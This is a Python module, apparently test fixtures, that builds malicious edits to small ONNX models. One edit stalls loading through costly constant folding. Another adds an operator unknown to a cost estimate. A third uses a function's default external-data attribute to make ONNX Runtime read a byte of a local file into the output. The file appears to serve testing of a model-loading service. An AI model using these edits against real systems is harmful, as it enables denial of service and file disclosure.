"""Edits that make a tiny bundle slow or expensive to load, or that make it read another file.

Imported by name, like tiny_bundles.
"""

import numpy as np
from onnx import AttributeProto, TensorProto, helper, numpy_helper


def folding(side, products):
    """Returns an edit with products of constants of `side` by `side`, which a session folds.

    Of 20,000 one product takes minutes, in which nothing can interrupt the runtime.
    """

    def edit(model):
        model.graph.initializer.append(numpy_helper.from_array(np.int64([side, side]), "side"))
        nodes = [helper.make_node("ConstantOfShape", ["side"], ["c0"])]
        nodes += [
            helper.make_node("MatMul", [f"c{i}", f"c{i}"], [f"c{i + 1}"]) for i in range(products)
        ]
        nodes.append(helper.make_node("ReduceSum", [f"c{products}"], ["sum"], keepdims=0))
        nodes.append(helper.make_node("Add", ["z", "sum"], ["z_and_sum"]))
        for node in model.graph.node:
            for place, name in enumerate(node.input):
                if name == "z":
                    node.input[place] = "z_and_sum"
        for node in reversed(nodes):
            model.graph.node.insert(0, node)

    return edit


def unknown(model):
    """Adds an operator that the estimate does not know and that loads and runs."""
    tanh = next(node for node in model.graph.node if node.op_type == "Tanh")
    node = helper.make_node("QuickGelu", ["x"], ["gelu"], domain="com.microsoft")
    place = list(model.graph.node).index(tanh)
    model.graph.node[place + 1].input[0] = "gelu"
    model.graph.node.insert(place + 1, node)
    model.opset_import.append(helper.make_opsetid("com.microsoft", 1))


def leaking(location):
    """Returns an edit that makes the pixels depend on the first byte of a file.

    The body of a function has a constant, whose value is a default attribute of the function, whose
    data is in the file. ONNX Runtime looks for it in the working directory and draws the image.

    Args:
        location: the path, relative to the working directory of the process that loads the model.
    """

    def edit(model):
        byte = helper.make_tensor("byte", TensorProto.UINT8, [1], b"\0", raw=True)
        byte.ClearField("raw_data")
        byte.data_location = TensorProto.EXTERNAL
        byte.external_data.add(key="location", value=location)
        byte.external_data.add(key="length", value="1")
        constant = helper.make_node("Constant", [], ["b"])
        constant.attribute.add(name="value", ref_attr_name="value", type=AttributeProto.TENSOR)
        body = [
            constant,
            helper.make_node("Cast", ["b"], ["shift"], to=TensorProto.FLOAT),
            helper.make_node("Add", ["x", "shift"], ["y"]),
        ]
        opsets = [helper.make_opsetid("", 18)]
        default = helper.make_attribute("value", byte)
        function = helper.make_function(
            "com.microsoft", "Leak", ["x"], ["y"], body, opsets, attribute_protos=[default]
        )
        model.functions.append(function)
        model.opset_import.append(helper.make_opsetid("com.microsoft", 1))
        tanh = next(node for node in model.graph.node if node.op_type == "Tanh")
        call = helper.make_node("Leak", tanh.input, ["leaked"], domain="com.microsoft")
        place = list(model.graph.node).index(tanh)
        tanh.input[0] = "leaked"
        model.graph.node.insert(place, call)

    return edit
